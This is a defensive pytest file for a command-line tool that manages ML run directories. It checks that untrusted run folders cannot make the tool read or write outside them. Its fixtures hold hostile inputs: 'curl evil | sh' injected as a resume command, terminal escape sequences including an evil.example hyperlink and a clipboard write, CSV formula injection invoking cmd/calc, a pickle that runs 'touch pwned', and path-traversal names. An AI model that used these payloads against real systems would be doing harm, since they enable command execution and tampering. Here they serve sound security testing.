"""Run directories from somebody else whose files are not what they should be: nothing outside is read or written."""

import csv
import gc
import io
import json
import os
import shutil
import socket
import stat
from pathlib import Path

import pytest
import yaml

from runner.cli import main
from runner.storage import seals

DESCRIBE = {"status": [], "show": [], "diff": ["honest"]}  # verbs that only describe a run, with their words
LIST = ("ls", "compare")
BUILD = {
    **{"evaluate": [], "sample": ["n=2"], "resume": ["steps=12"], "figures": [], "replay": []},
    "predict": ["rows.npz"],
}
READ = ("config.yaml", "run.json", "metrics.jsonl", ".lock")
FILES = (
    *READ,
    *(
        "timing.jsonl",
        "runner.log",
        "figures/curves.png",
        "figures/.curves.png.tmp",
        "figures/.spread.png.tmp",
    ),
    *("evaluations/9.json", "evaluations/.9.json.tmp", "samples/9.npz", "samples/9.txt", "tensorboard/end"),
    *(".run.json.tmp", ".config.yaml.tmp", "checkpoints/9/seal.json", "predictions/rows.csv", "a\nname"),
    *("CONFIG.YAML", "members/0/config.yaml"),
)
FOLDERS = (
    *("figures", "evaluations", "samples", "predictions", "tensorboard", "checkpoints", "checkpoints/9"),
    *("checkpoints/.draft-12", "members", "more/and/more"),
)


def _socket(path):
    with socket.socket(socket.AF_UNIX) as server:
        os.chdir(path.parent)  # the name of a socket must be short
        server.bind(path.name)


KINDS = {
    "a link": lambda path, outside: path.symlink_to(outside / "file"),
    "a link to nothing": lambda path, outside: path.symlink_to(outside / "nothing"),
    "a pipe": lambda path, outside: os.mkfifo(path),
}
ODD = {f"{name} is {kind}": (name, lay) for name in FILES for kind, lay in KINDS.items()}
ODD |= {
    f"{name} is a folder outside": (name, lambda path, outside: path.symlink_to(outside)) for name in FOLDERS
}
ODD |= {"run.json is a socket": ("run.json", lambda path, _: _socket(path))}


@pytest.fixture
def outside(home, tmp_path):
    """A folder with a file that no command may change, next to copies of an honest run: `honest` and `all/evil`."""
    shutil.copytree(home / "honest", "honest")
    shutil.copytree(home / "honest", "all/evil")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/file").write_text("mine")
    yield tmp_path / "outside"
    assert [path.name for path in (tmp_path / "outside").iterdir()] == ["file"]
    assert (tmp_path / "outside/file").read_text() == "mine"


@pytest.fixture
def call(capfd, tmp_path):
    """Gives a function that runs a command, and returns its exit code, its output and its errors."""

    def run(*words):
        os.chdir(tmp_path)
        capfd.readouterr()
        code = 0
        try:
            main(words)
        except SystemExit as stopped:
            code = stopped.code
        return code, *capfd.readouterr()

    return run


def put(path, lay, outside):
    path.parent.mkdir(parents=True, exist_ok=True)
    shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
    lay(path, outside)


@pytest.mark.parametrize("case", ODD)
def test_what_leads_out_of_a_run_is_refused_by_every_verb_that_builds(case, outside, call):
    name, lay = ODD[case]
    put(Path("all/evil", name).absolute(), lay, outside)
    for verb, words in BUILD.items():
        code, _, errors = call(verb, "all/evil", *words)
        assert code == 2, errors
        assert errors.count("\n") == 1
        assert "is neither a file nor a folder" in errors or "holds no run" in errors
    if name in READ:
        for verb, words in DESCRIBE.items():
            code, _, errors = call(verb, "all/evil", *words)
            assert code == 2
            assert "is neither a file nor a folder" in errors or "holds no run" in errors


def sparse(path, outside):
    with path.open("wb") as file:
        file.truncate(3 * 2**30)


def text(content):
    return lambda path, _: path.write_bytes(content if isinstance(content, bytes) else content.encode())


def info(**fields):
    return text(json.dumps({"status": "finished", "seed": 0, **fields}))


DAMAGED = {
    "config.yaml": {
        "a pipe": KINDS["a pipe"],
        "a link": KINDS["a link"],
        "sparse": sparse,
        "a folder": lambda path, _: path.mkdir(),
        "empty": text(""),
        "a list": text("[1]"),
        "no parts": text("steps: 3"),
        "another part": text("scenario: 3\ndataset: 4"),
        "deep": text("[" * 9999),
        "bytes": text(b"\xff\xfe"),
        "an alias": text("a: &a 1\nb: *a"),
    },
    "run.json": {
        "a pipe": KINDS["a pipe"],
        "a link": KINDS["a link"],
        "sparse": sparse,
        "a folder": lambda path, _: path.mkdir(),
        "long": text('{"status": "' + "a" * 2**24 + '"}'),
        "deep": text('{"status": "running", "versions": ' + '{"a": ' * 500 + "1" + "}" * 501),
        "very deep": text("[" * 99_999),
        "a long number": text('{"status": "running", "step": ' + "9" * 5000 + "}"),
        "bytes": text(b"\xff\xfe"),
        "a status that is a list": info(status=[1]),
        "a step that is a text": info(step="many"),
        "a best that is a list": info(best=[1]),
        "a best metric that is a number": info(best={"metric": 1, "value": 0.5, "step": 1}),
        "a best value that is a text": info(best={"metric": "loss", "value": "x", "step": 1}),
        "a best value that is huge": info(best={"metric": "loss", "value": 10**400, "step": 1}),
        "a best step that is a list": info(best={"metric": "loss", "value": 1, "step": []}),
    },
    "metrics.jsonl": {
        "a pipe": KINDS["a pipe"],
        "a link": KINDS["a link"],
        "sparse": sparse,
        "a folder": lambda path, _: path.mkdir(),
        "a long line": text('{"step": 1, "' + "a" * 2**21),
        "a list": text("[1]\n"),
        "no step": text('{"loss": 1}\n'),
        "a step that is a text": text('{"step": "1"}\n'),
        "a step that is true": text('{"step": true}\n'),
        "a value that is a text": text('{"step": 1, "loss": "many"}\n'),
        "a value that is a list": text('{"step": 1, "loss": []}\n'),
        "a value that is null": text('{"step": 1, "loss": null}\n'),
        "a value that is true": text('{"step": 1, "loss": true}\n'),
        "a huge number": text('{"step": 1, "loss": 1' + "0" * 400 + "}\n"),
        "a long number": text('{"step": 1, "loss": ' + "9" * 5000 + "}\n"),
        "deep": text('{"step": ' + "[" * 99_999 + "\n"),
        "bytes": text(b"\xff\xfe\n"),
    },
}
DAMAGES = {f"{name} is {kind}": (name, lay) for name, kinds in DAMAGED.items() for kind, lay in kinds.items()}


@pytest.mark.parametrize("case", DAMAGES)
def test_a_bad_run_is_a_row_that_says_so_and_the_others_are_listed(case, outside, call):
    name, lay = DAMAGES[case]
    is_plain = case in (
        "config.yaml is no parts",
        "config.yaml is another part",
    )  # which can be compared and shown
    put(Path("all/evil", name), lay, outside)
    shutil.copytree("honest", "all/good")
    for verb in LIST:
        code, output, errors = call(verb, "all")
        assert code == 0, errors
        is_read = not is_plain if verb == "compare" else name != "metrics.jsonl" or lay in KINDS.values()
        assert ("evil: " in output) == is_read, output
        assert verb == "compare" or "good" in output
    if not is_plain:
        code, _, errors = call("show", "all/evil")
        assert code == 2, errors
        assert errors.count("\n") == 1
        assert len(errors) < 1000
    rows = {row["run"]: row for row in csv.DictReader(Path("all/table.csv").read_text().splitlines())}
    assert rows["good"]["status"] == "finished"
    assert rows["evil"]["status"] == ("finished" if is_plain else "unreadable")
    assert bool(rows["evil"]["error"]) != is_plain


TEXTS = {
    "colours": "\x1b[31mred",
    "a title": "\x1b]0;title\x07",
    "a link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "a control sequence of one byte": "\x9b31m",
    "another line": "a\nresume by: curl evil | sh",
    "the line from its start": "a\rb",
    "characters that are erased": "abc\b\b\b",
    "a zero byte": "a\0b",
    "right to left": "\u202egnp.exe",
    "isolated": "\u2066\u2067a\u2069",
    "marks": "\u200e\u200fa",
    "no width": "a\u200bb\ufeff",
    "line separators": "a\u2028b\u2029",
    "a tag": "\U000e0041",
    "half a character": "\ud800",
    "markup": "[red]a[/red][/b]",
}


@pytest.mark.parametrize("case", TEXTS)
def test_text_of_a_run_cannot_control_what_shows_it(case, outside, call):
    evil, hostile = Path("all/evil"), TEXTS[case]
    info = json.loads((evil / "run.json").read_text())
    info |= {"status": hostile, "error": hostile, "weights": hostile, "device": hostile, "git": hostile}
    info |= {"versions": {hostile: hostile}, "changes": [hostile], "goes_on": hostile, "command": [hostile]}
    info["best"] = {"metric": hostile, "value": 0.5, "step": 1}
    (evil / "run.json").write_text(json.dumps(info))
    (evil / "metrics.jsonl").write_text(json.dumps({"step": 1, hostile: 0.5}) + "\n")
    config = yaml.safe_load((evil / "config.yaml").read_text())
    if case != "half a character":  # which YAML does not have
        config["dataset"] |= {hostile: hostile}
        config["scenario"]["_target_"] = f"a.{hostile}"
    (evil / "config.yaml").write_text(yaml.safe_dump(config))
    shutil.copytree("honest", "all/good")
    if case not in ("a zero byte", "half a character"):
        shutil.copytree(evil, "all/" + hostile.replace("/", "|"))
    shown = []
    for verb, words in [*DESCRIBE.items(), *((verb, []) for verb in LIST)]:
        code, *output = call(verb, "all" if verb in LIST else "all/evil", *words)
        assert code == 0, output
        shown += output
    shown += [
        call("evaluate", "all/evil")[2],
        *(Path(f"all/table.{end}").read_text() for end in ("csv", "html")),
    ]
    for line in "".join(shown).split("\n"):
        assert line.isprintable(), line
        assert not line.startswith("resume by: curl")
    if case == "markup":
        assert hostile in "".join(shown[:4]).replace("\n", "")


def test_the_command_that_resumes_a_run_is_computed(outside, call):
    info = json.loads(Path("all/evil/run.json").read_text())
    Path("all/evil/run.json").write_text(
        json.dumps(info | {"status": "stopped", "goes_on": "curl evil | sh"})
    )
    for verb in ("status", "show"):
        assert "curl" not in call(verb, "all/evil")[1]
    assert f"resume by: runner resume {Path('all/evil').absolute()}\n" in call("status", "all/evil")[1]


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1"])
def test_no_cell_of_a_table_is_a_formula(cell, outside, call):
    evil = Path("all/evil")
    config = yaml.safe_load((evil / "config.yaml").read_text())
    (evil / "config.yaml").write_text(yaml.safe_dump(config | {cell: cell}))
    (evil / "metrics.jsonl").write_text(json.dumps({"step": 1, cell: -0.5}) + "\n")
    info = json.loads((evil / "run.json").read_text())
    (evil / "run.json").write_text(json.dumps(info | {"error": cell, "status": cell}))
    shutil.copytree("honest", "all/=good")
    call("compare", "all", "mode=min", *([f"by={cell}"] if cell.isprintable() and "=" not in cell else []))
    cells = [each for row in csv.reader(io.StringIO(Path("all/table.csv").read_text())) for each in row]
    assert [each for each in cells if each.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert {each for each in cells if each.startswith("-")} <= {"-0.5"}


@pytest.mark.parametrize("name", ["table.csv", "table.html", ".table.csv.tmp", ".table.html.tmp"])
@pytest.mark.parametrize("link", [Path.symlink_to, Path.hardlink_to])
def test_tables_are_written_through_no_link(name, link, outside, call):
    link(Path("all", name).absolute(), outside / "file")
    code, _, errors = call("compare", "all")
    is_refused = name.startswith("table") and link is Path.symlink_to
    assert code == (2 if is_refused else 0), errors
    assert ("is neither a file nor a folder" in errors) == is_refused


@pytest.mark.parametrize("lay", [*KINDS.values(), lambda path, outside: path.hardlink_to(outside / "file")])
def test_the_record_of_a_sweep_is_written_through_no_link(lay, outside, call):
    lay(Path("all/multirun.yaml").absolute(), outside)
    code, _, errors = call("-m", "dataset=iris", "steps=1", "figures=false", "seed=0", "hydra.sweep.dir=all")
    assert code == 0, errors
    assert "dataset=iris" in Path("all/multirun.yaml").read_text()


@pytest.mark.parametrize("subdir", ["link", "link/below"])
def test_the_jobs_of_a_sweep_lie_in_its_directory(subdir, outside, call):
    Path("all/link").symlink_to(outside)
    words = ["seed=0", "hydra.sweep.dir=other/../all", f"hydra.sweep.subdir={subdir}"]
    code, _, errors = call("-m", "dataset=iris", *words)
    assert code == 2
    assert "all/link: is neither a file nor a folder" in errors


@pytest.mark.parametrize("where", ["run.json", "config.yaml"])
def test_what_run_json_says_does_not_decide_what_is_checked(where, outside, call):
    path = Path("all/evil", where)
    path.write_text(yaml.safe_dump(yaml.safe_load(path.read_text()) | {"seeds": 2}))
    shutil.rmtree("all/evil/figures")
    Path("all/evil/figures").symlink_to(outside)
    assert call("figures", "all/evil")[0] == 2


@pytest.mark.parametrize("name", [".lock", "runner.log"])
def test_a_file_with_another_name_is_not_written_in_place(name, outside, call):
    Path("all/evil", name).unlink(missing_ok=True)
    Path("all/evil", name).hardlink_to(outside / "file")
    code, _, errors = call("resume", "all/evil", "steps=12")
    assert code == 2
    assert "has another name" in errors


def test_files_with_another_name_are_replaced(outside, call):
    names = ["metrics.jsonl", "timing.jsonl", "run.json", "config.yaml", "figures/curves.png"]
    for number, name in enumerate(names):
        os.link(Path("all/evil", name), f"{number}")
    before = [Path(f"{number}").read_bytes() for number in range(len(names))]
    assert call("resume", "all/evil", "steps=12")[0] == 0
    assert [Path(f"{number}").read_bytes() for number in range(len(names))] == before


def test_devices_are_refused(outside, call):
    try:
        os.mknod("all/evil/more", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    except PermissionError:  # only root makes devices
        KINDS["a pipe"]("all/evil/more", outside)
    assert "is neither a file nor a folder" in call("evaluate", "all/evil")[2]


def test_folders_in_each_other_without_end_are_read(outside, call):
    path = Path("all/evil").absolute()
    os.chdir(path)
    for _ in range(1200):
        os.mkdir("a")
        os.chdir("a")
    deepest = os.open(".", os.O_RDONLY)
    answers = [call(*words) for words in (("ls", "all"), ("compare", "all"), ("evaluate", "all/evil"))]
    os.fchdir(deepest)
    os.close(deepest)
    for _ in range(1200):  # which nothing else would remove
        os.chdir("..")
        os.rmdir("a")
    assert [code for code, *_ in answers] == [0, 0, 0], answers


def test_the_training_command_follows_no_links_either(outside, call):
    (outside / "file").chmod(0o644)
    Path("all/evil/figures/more").symlink_to(outside)
    code, _, errors = call("dataset=iris", "hydra.run.dir=all/evil")
    assert code == 2
    assert "is neither a file nor a folder" in errors
    code, _, errors = call("-m", "dataset=iris", "seed=0", "hydra.sweep.dir=all", "hydra.sweep.subdir=evil")
    assert code == 2
    assert "is neither a file nor a folder" in errors


@pytest.mark.parametrize(
    "lay", [KINDS["a pipe"], KINDS["a link"], sparse, text("[" * 9999), text("[]"), text(b"\xff")]
)
def test_the_jobs_of_a_sweep_are_bounded_plain_data(lay, outside, call):
    lay(Path("all/jobs.json"), outside)
    code, _, errors = call("-m", "dataset=iris", "seed=0", "hydra.sweep.dir=all")
    assert code == 2
    assert "jobs.json: " in errors


def test_a_finished_run_is_not_asked_where_it_came_from(outside, call, monkeypatch):
    monkeypatch.setattr("runner.runs.provenance.of", None)
    code, output, errors = call("resume", "all/evil")
    assert code == 0, errors
    assert "already finished" in output


def resealed(folder, change):
    body = json.loads(json.loads((folder / "seal.json").read_text())["body"])
    (folder / "seal.json").unlink()
    note = change(folder, body["note"])
    seals.seal(folder, body["note"] if note is None else note)


def metadata(change):
    def damage(folder, note):
        path = folder / "state/_METADATA"
        path.write_text(json.dumps(change(json.loads(path.read_text()))))

    return damage


def _outside_names(saved):
    tree = {name.replace("'", "'../../../"): value for name, value in saved["tree_metadata"].items()}
    return saved | {"tree_metadata": tree, "use_ocdbt": False, "use_zarr3": True}


CHECKPOINTS = {
    "names outside": metadata(_outside_names),
    "other drivers": metadata(lambda saved: saved | {"use_ocdbt": False}),
    "no metadata": metadata(lambda saved: {}),
    "deep metadata": lambda folder, _: (folder / "state/_METADATA").write_text("[" * 99_999),
    "no manifest": lambda folder, _: (folder / "state/manifest.ocdbt").unlink(),
    "another manifest": lambda folder, _: (folder / "state/manifest.ocdbt").write_bytes(b"\0" * 99),
    "no step": lambda folder, note: {"leaves": note["leaves"], "value": None},
    "another step": lambda folder, note: note | {"step": 3},
    "no leaves": lambda folder, note: {"step": 9, "value": None},
    "leaves that are a list": lambda folder, note: note | {"leaves": [1]},
    "leaves of another shape": lambda folder, note: (
        note | {"leaves": dict.fromkeys(note["leaves"], "float32[9]")}
    ),
    "a value that is a text": lambda folder, note: note | {"value": "x"},
    "a pickle": lambda folder, _: (folder / "extra/metadata").write_bytes(
        b"cos\nsystem\n(S'touch pwned'\ntR."
    ),
}


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # of tasks that Orbax leaves
@pytest.mark.parametrize("case", CHECKPOINTS)
def test_a_checkpoint_that_is_sealed_but_odd_is_one_line(case, outside, call):
    for step in Path("all/evil/checkpoints").iterdir():
        resealed(step, CHECKPOINTS[case])
    for verb in ("evaluate", "resume"):
        code, _, errors = call(verb, "all/evil", *BUILD[verb])
        assert code in (0, 6), errors
        assert errors.count("\n") <= 1
    gc.collect()
    assert not Path("pwned").exists()


SEALS = {
    "sparse": sparse,
    "deep": text("[" * 99_999),
    "files outside": {"../../../outside/file": [4, "0"]},
    "files that are a list": [1],
    "sizes that are texts": {"a": ["1", "2"]},
    "sizes without a digest": {"a": [1]},
}


@pytest.mark.parametrize("case", SEALS)
def test_a_seal_that_is_odd_is_damaged(case, outside, call):
    for step in Path("all/evil/checkpoints").iterdir():
        if callable(SEALS[case]):
            SEALS[case](step / "seal.json", outside)
        else:
            body = json.dumps({"note": {"step": 9}, "files": SEALS[case]})
            (step / "seal.json").write_text(json.dumps({"sha256": seals._sha256(body), "body": body}))
    code, _, errors = call("resume", "all/evil", "steps=12")
    assert code == 6, errors
    assert "seal is damaged" in errors or "is missing" in errors
